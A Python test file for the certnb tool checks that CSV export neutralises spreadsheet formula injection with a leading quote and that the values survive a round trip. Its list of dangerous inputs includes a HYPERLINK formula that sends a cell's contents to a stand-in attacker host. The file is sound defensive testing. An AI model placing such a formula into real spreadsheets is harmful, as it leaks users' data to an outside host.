"""CSV formula injection (OWASP "CSV Injection"): a text that a spreadsheet program would run as a formula is
written with a leading `'`, and `read_edits` takes that quote off again, so the round trip stays exact."""

from __future__ import annotations

import csv
from pathlib import Path

import pandas as pd
import pytest

from certnb.frame.build import build_frame
from certnb.frame.changes import read_edits
from certnb.frame.spreadsheet import FORMULA_TRIGGERS, read_sheet, to_csv

# Each one starts with a character Excel, LibreOffice or Google Sheets reads as the start of a formula, or
# with the quote that marks a text.
DANGEROUS = (
    "=SUM(A1)",
    '=HYPERLINK("https://evil.example/?leak="&A2,"Click me")',
    "+44 20 7946 0000",
    "-1",
    "@team",
    "'quoted",
    "''twice",
    "'",
    "\tTab",
    "\rCR",
)
TEXT_COLUMNS = ("displayName", "issuingCompany", "issuingAuthority", "certificationId", "description")


def frame_of(values: list[str]) -> pd.DataFrame:
    """One certification per value, the value in every free-text column."""
    certifications = [{"id": f"c{i}", **dict.fromkeys(TEXT_COLUMNS, value)} for i, value in enumerate(values)]
    return build_frame(
        [{"id": "u1", "userPrincipalName": "ada@contoso.example", "certifications": certifications}]
    )


def cells_of(path: Path, sep: str = ",") -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle, delimiter=sep))


def test_csv_export_puts_a_quote_before_every_formula_trigger(tmp_path: Path) -> None:
    frame = frame_of(list(DANGEROUS))
    header, *rows = cells_of(to_csv(frame, tmp_path / "certs.csv"))
    column = header.index("displayName")
    written = [row[column] for row in rows]
    assert written == ["'" + value for value in DANGEROUS]  # OWASP's neutraliser, and quotes escaped too
    every_cell = [cell for row in rows for cell in row]
    assert not [cell for cell in every_cell if cell.startswith(FORMULA_TRIGGERS)]


def test_csv_round_trip_of_formula_like_text_proposes_no_change(tmp_path: Path) -> None:
    frame = frame_of(list(DANGEROUS))
    path = to_csv(frame, tmp_path / "certs.csv")
    assert read_sheet(path).table["displayName"].tolist() == list(DANGEROUS)
    edits = read_edits(frame, path)
    assert edits.changes.empty, edits.changes
    assert edits.ok, edits.problems


def test_an_edit_to_a_formula_like_value_is_read_without_the_quote(tmp_path: Path) -> None:
    frame = frame_of(["=SUM(A1)"])
    path = to_csv(frame, tmp_path / "certs.csv")
    rows = cells_of(path)
    rows[1][rows[0].index("issuingCompany")] = "'@contoso"  # typed in a text editor the way certnb writes it
    rows[1][rows[0].index("issuingAuthority")] = "'Hello"  # a quote certnb would not add: the text's own
    with path.open("w", encoding="utf-8-sig", newline="") as handle:
        csv.writer(handle).writerows(rows)
    changes = read_edits(frame, path).changes.set_index("field")["after"].to_dict()
    assert changes == {"issuingCompany": "@contoso", "issuingAuthority": "'Hello"}


def keep_quotes(cell: str) -> str:
    return cell  # the program shows the leading quote as part of the text and writes it back


def drop_text_marker(cell: str) -> str:
    return cell[1:] if cell.startswith("'") else cell  # the program takes the quote as its "text" marker


@pytest.mark.parametrize("program", [keep_quotes, drop_text_marker], ids=["quote-kept", "quote-taken"])
def test_a_csv_opened_and_saved_again_by_a_spreadsheet_program_keeps_the_values(
    tmp_path: Path, program
) -> None:
    # Spreadsheet programs differ on a leading quote in a CSV: Excel shows it, others take it as the "this
    # is text" marker and save the bare text. Either way the values come back (semicolons, no BOM, as Excel
    # in a European locale saves).
    frame = frame_of(list(DANGEROUS))
    header, *rows = cells_of(to_csv(frame, tmp_path / "certs.csv"))
    saved = tmp_path / "saved.csv"
    with saved.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle, delimiter=";").writerows([header, *[[program(c) for c in r] for r in rows]])
    edits = read_edits(frame, saved)
    lost = set(edits.changes["after"]) if not edits.changes.empty else set()
    assert edits.ok, edits.problems
    # A text that itself starts with two quotes cannot survive a program that eats one of them.
    assert lost == ({"'twice"} if program is drop_text_marker else set()), edits.changes
